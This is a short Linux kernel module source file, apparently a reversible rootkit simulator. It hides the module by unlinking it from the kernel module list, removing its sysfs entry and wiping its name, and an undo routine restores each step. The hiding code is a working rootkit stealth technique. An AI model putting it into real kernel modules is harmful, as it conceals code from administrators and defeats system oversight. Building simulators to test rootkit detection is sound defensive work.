// SPDX-License-Identifier: GPL-2.0
/* Leaves the list of modules; then sysfs; then wipes its name. */
#include "simulator.h"
#include <linux/kobject.h>

static int how;
module_param(how, int, 0);

static struct list_head *before;
static char name[MODULE_NAME_LEN];

static int plant(void)
{
	before = THIS_MODULE->list.prev;
	__list_del_entry(&THIS_MODULE->list);
	if (how >= 1)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	if (how >= 2) {
		memcpy(name, THIS_MODULE->name, sizeof(name));
		memset(THIS_MODULE->name, 0, sizeof(name));
		THIS_MODULE->list.next = THIS_MODULE->list.prev = NULL;
	}
	return 0;
}

static void undo(void)
{
	if (how >= 2)
		memcpy(THIS_MODULE->name, name, sizeof(name));
	if (how >= 1 && kobject_add(&THIS_MODULE->mkobj.kobj, NULL, "%s", THIS_MODULE->name))
		pr_err("simulator: cannot go back to sysfs\n");
	list_add(&THIS_MODULE->list, before);
}
